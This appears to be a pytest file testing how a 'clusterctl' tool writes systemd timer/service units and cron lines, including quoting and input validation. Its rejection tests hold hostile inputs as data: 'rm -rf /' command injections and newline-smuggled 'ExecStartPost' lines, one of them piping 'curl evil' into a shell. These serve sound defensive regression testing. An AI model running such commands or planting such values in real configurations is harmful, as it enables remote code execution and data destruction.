"""install-timer: units that systemd-analyze accepts, a cron line, quoting."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from clusterctl.cli.main import main
from clusterctl.errors import ClusterctlError
from clusterctl.report.schedule import Schedule, cron_line, service_unit, timer_unit

ARGV = (
    "/usr/bin/python3",
    "-m",
    "clusterctl.cli.main",
    "report",
    "run",
    "all",
    "--out",
    "/srv/report dir",
    "--notify-cmd",
    "page --msg 100%$HOME",
)


def test_service_quotes_arguments_and_escapes_systemd_specifiers():
    unit = service_unit(Schedule(ARGV, every_min=5, user="ops"))
    exec_line = next(line for line in unit.splitlines() if line.startswith("ExecStart="))
    assert '"/srv/report dir"' in exec_line and '"page --msg 100%%$$HOME"' in exec_line
    assert "Type=oneshot" in unit and "User=ops" in unit and "SuccessExitStatus=1 2 3" in unit
    assert "OnUnitActiveSec=5min" in timer_unit(Schedule(ARGV, every_min=5))


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze is not installed")
def test_systemd_analyze_verify_accepts_the_units(tmp_path: Path):
    s = Schedule(("/bin/true", "report dir", "100%"), every_min=10)
    (tmp_path / "clusterctl-report.service").write_text(service_unit(s))
    (tmp_path / "clusterctl-report.timer").write_text(timer_unit(s))
    p = subprocess.run(
        [
            "systemd-analyze",
            "verify",
            str(tmp_path / "clusterctl-report.timer"),
            str(tmp_path / "clusterctl-report.service"),
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    problems = [line for line in p.stderr.splitlines() if "clusterctl-report" in line]
    assert p.returncode == 0 and not problems, p.stderr


@pytest.mark.parametrize("every,fields", [(1, "* *"), (5, "*/5 *"), (60, "0 *"), (120, "0 */2")])
def test_cron_line_schedules_and_escapes_percent(every: int, fields: str):
    line = cron_line(Schedule(ARGV, every_min=every)).splitlines()[1]
    assert line.startswith(f"{fields} * * * root ")
    assert "100\\%" in line and line.endswith(">/dev/null 2>&1")


def test_bad_unit_name_and_period_are_refused():
    with pytest.raises(ClusterctlError, match="bad unit name"):
        Schedule(ARGV, name="x; rm -rf /")
    with pytest.raises(ClusterctlError, match="1 to 1440"):
        Schedule(ARGV, every_min=0)


def test_install_timer_writes_units_and_cron_entry(tmp_path: Path, capsys):
    assert main(["report", "install-timer", "--unit-dir", str(tmp_path), "--out", "/srv/r", "--every", "15"]) == 0
    assert (tmp_path / "clusterctl-report.timer").read_text().count("OnUnitActiveSec=15min") == 1
    assert "--out /srv/r" in (tmp_path / "clusterctl-report.service").read_text()
    assert main(["report", "install-timer", "--cron", "--cron-dir", str(tmp_path), "--every", "10"]) == 0
    assert (tmp_path / "clusterctl-report").read_text().splitlines()[1].startswith("*/10 * * * * root ")
    assert main(["report", "install-timer", "--every", "0", "--dry-run"]) == 3


def test_active_checks_get_their_own_daily_timer_that_systemd_accepts(tmp_path: Path, capsys):
    assert (
        main(
            ["report", "install-timer", "--unit-dir", str(tmp_path), "--active", "leak,drift", "--out", "/srv/r/active"]
        )
        == 0
    )
    service = (tmp_path / "clusterctl-report-active.service").read_text()
    timer = (tmp_path / "clusterctl-report-active.timer").read_text()
    assert "--active drift,leak" in service and "OnCalendar=daily" in timer and "OnUnitActiveSec" not in timer
    assert not (tmp_path / "clusterctl-report.timer").exists()  # the passive timer is left alone
    if shutil.which("systemd-analyze"):
        p = subprocess.run(
            ["systemd-analyze", "verify", str(tmp_path / "clusterctl-report-active.timer")],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert not [line for line in p.stderr.splitlines() if "clusterctl-report-active.timer" in line], p.stderr
    assert (
        main(
            [
                "report",
                "install-timer",
                "--unit-dir",
                str(tmp_path),
                "--active",
                "drift",
                "--on-calendar",
                "Mon..Fri 06:00",
            ]
        )
        == 0
    )
    assert "OnCalendar=Mon..Fri 06:00" in (tmp_path / "clusterctl-report-active.timer").read_text()
    assert (
        main(
            [
                "report",
                "install-timer",
                "--cron",
                "--cron-dir",
                str(tmp_path),
                "--active",
                "leak",
                "--on-calendar",
                "daily",
            ]
        )
        == 0
    )
    assert (tmp_path / "clusterctl-report-active").read_text().splitlines()[1].startswith("0 0 * * * root ")
    capsys.readouterr()
    assert (
        main(
            [
                "report",
                "install-timer",
                "--cron",
                "--cron-dir",
                str(tmp_path),
                "--active",
                "leak",
                "--on-calendar",
                "Mon 06:00",
            ]
        )
        == 3
    )
    assert main(["report", "install-timer", "--dry-run", "--active", "latency"]) == 3
    assert main(["report", "install-timer", "--dry-run", "--on-calendar", "daily; rm -rf /"]) == 3
    err = capsys.readouterr().err
    assert "use one of hourly, daily, weekly" in err and "drift, leak, bench" in err and "calendar" in err


@pytest.mark.parametrize(
    "flag,value",
    [
        ("--out", "/srv/r\nExecStartPost=/bin/sh -c 'curl evil|sh'"),
        ("--notify-cmd", "true\rExecStartPost=/bin/id"),
        ("--textfile", "/t.prom\n* * * * * root /bin/id"),
        ("--user", "ops\nExecStartPost=/bin/id"),
        ("--user", "ops; id"),
        ("--on-calendar", "daily\n"),
    ],
)
@pytest.mark.parametrize("cron", [False, True])
def test_a_newline_in_an_argument_never_adds_a_unit_or_cron_line(tmp_path: Path, flag: str, value: str, cron: bool):
    """Issue 21: a newline in --out/--notify-cmd/--user/... used to add an ExecStartPost= or cron line."""
    args = ["report", "install-timer", "--unit-dir", str(tmp_path), "--cron-dir", str(tmp_path), flag, value]
    assert main(args + (["--cron"] if cron else [])) == 3
    assert list(tmp_path.iterdir()) == []


def test_a_backslash_reaches_the_command_as_written():
    """systemd decodes C escapes inside quotes: ``a\\nb`` must stay a backslash and an n."""
    unit = service_unit(Schedule(("/bin/true", "a\\nb"), every_min=5))
    exec_line = next(line for line in unit.splitlines() if line.startswith("ExecStart="))
    assert exec_line == 'ExecStart=/bin/true "a\\\\nb"'
